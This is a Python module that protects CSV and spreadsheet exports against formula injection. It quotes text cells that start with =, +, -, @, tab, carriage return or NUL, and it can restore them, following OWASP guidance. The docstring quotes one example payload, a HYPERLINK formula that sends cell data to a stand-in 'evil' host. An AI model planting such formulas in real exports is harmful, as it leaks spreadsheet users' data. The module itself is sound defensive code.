"""Formula injection: text that a spreadsheet would run as a formula is neutralised.

A spreadsheet opening a CSV file treats a cell starting with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("http://evil/?"&A1, "click")`` leaks data; DDE payloads run commands),
and tab and carriage return can smuggle one past a leading-character check. Following the
OWASP CSV injection guidance (and ASVS 5.0, 1.2.10, which adds the NUL character), every *text*
cell starting with one of these characters gets a leading single quote, which spreadsheets show
as text. Numbers are never touched: a negative delta stays the number ``-3``. That is why the
decision is made on the value's type (``str`` or not), never on how its text looks.

The single quote is also escaped when text already starts with one, so the mark is reversible:
:func:`restore` undoes exactly what :func:`neutralise` did, and an exported name imports back
unchanged.
"""

from __future__ import annotations

from typing import Final

import pandas as pd
from pandas.api.types import is_bool_dtype, is_numeric_dtype

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\0")
QUOTE: Final = "'"
_MARKED: Final = (*FORMULA_TRIGGERS, QUOTE)


def neutralise(text: str) -> str:
    """``=SUM(A1)`` -> ``'=SUM(A1)``; text that cannot start a formula is returned as is."""
    return QUOTE + text if text.startswith(_MARKED) else text


def restore(text: str) -> str:
    """Undo :func:`neutralise`: drop one leading quote that protects a trigger or a quote."""
    if text.startswith(QUOTE) and text[1:].startswith(_MARKED):
        return text[1:]
    return text


def is_neutral(text: str) -> bool:
    """True if a spreadsheet would read this text cell as text, never as a formula."""
    return not text.startswith(FORMULA_TRIGGERS)


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and column names are neutralised; numeric columns untouched.

    Columns of mixed values (a comparison table holds counts, dollars and scores in one
    column) are handled cell by cell: only ``str`` values change, and the column keeps its
    dtype (an object column of ints must not turn into floats).
    """
    safe = frame.copy()
    for position in range(frame.shape[1]):
        series = frame.iloc[:, position]
        if is_numeric_dtype(series) and not is_bool_dtype(series):
            continue
        values = [neutralise(value) if isinstance(value, str) else value for value in series]
        safe.isetitem(position, pd.Series(values, index=series.index, dtype=series.dtype))
    safe.columns = [neutralise(c) if isinstance(c, str) else c for c in frame.columns]
    return safe
